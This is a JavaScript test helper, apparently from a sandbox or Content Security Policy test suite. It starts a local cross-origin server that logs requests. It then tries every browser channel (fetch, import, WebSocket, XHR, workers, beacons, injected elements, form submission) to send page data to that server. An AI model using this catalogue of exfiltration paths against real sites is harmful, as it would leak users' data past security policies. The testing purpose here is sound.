// A server of another origin, and all that a script can try in order to send it something.

import { createServer } from 'node:http';

/** A server that lets anybody in and remembers what it was asked. */
export async function start_stranger() {
  /** @type {string[]} */
  const reached = [];
  const server = createServer((request, response) => {
    reached.push(request.url ?? '');
    response.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Cross-Origin-Resource-Policy': 'cross-origin',
      'Content-Type': 'text/javascript',
    });
    response.end();
  });
  await new Promise((done) => server.listen(0, 'localhost', () => done(undefined)));
  return {
    url: `http://localhost:${/** @type {import('node:net').AddressInfo} */ (server.address()).port}`,
    reached,
    close: () =>
      new Promise((done) => {
        server.close(() => done(undefined));
        server.closeAllConnections();
      }),
  };
}

/**
 * Tries every way out that this kind of global scope has. Runs in the page or in a worker.
 * @param {string} url
 */
export async function try_to_send(url) {
  const socket = url.replace('http', 'ws');
  await fetch(`${url}/fetch`, { method: 'POST', body: 'pixels', mode: 'no-cors' }).catch(() => {});
  await import(`${url}/import.js`).catch(() => {});
  try {
    new WebSocket(`${socket}/socket`);
  } catch {}
  try {
    new EventSource(`${url}/events`);
  } catch {}
  const asked = new XMLHttpRequest();
  asked.open('POST', `${url}/xhr`);
  try {
    asked.send('pixels');
  } catch {}
  try {
    new Worker(URL.createObjectURL(new Blob([`fetch('${url}/from_worker', { mode: 'no-cors' })`])));
  } catch {}
  await new Promise((resolve) => setTimeout(resolve)); // what the debugger starts it lets make code, up to here
  let made = 'refused';
  try {
    made = new Function('return "made"')();
  } catch {}
  if (typeof document !== 'undefined') {
    navigator.sendBeacon(`${url}/beacon`, 'pixels');
    new Image().src = `${url}/image`;
    const elements = { script: 'src', iframe: 'src', link: 'href', object: 'data', video: 'src', embed: 'src' };
    for (const [name, attribute] of Object.entries(elements)) {
      const element = document.body.appendChild(document.createElement(name));
      if (name === 'link') element.setAttribute('rel', 'stylesheet');
      element.setAttribute(attribute, `${url}/${name}`);
    }
    document.body.insertAdjacentHTML('beforeend', `<div id="inline_style" style="width: 7px"></div>`);
    document.body.insertAdjacentHTML('beforeend', `<form id="form" target="_blank" action="${url}/form" method="post"></form>`);
    try {
      /** @type {HTMLFormElement} */ (document.getElementById('form')).submit();
    } catch {} // Firefox throws what it refuses
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  return made;
}
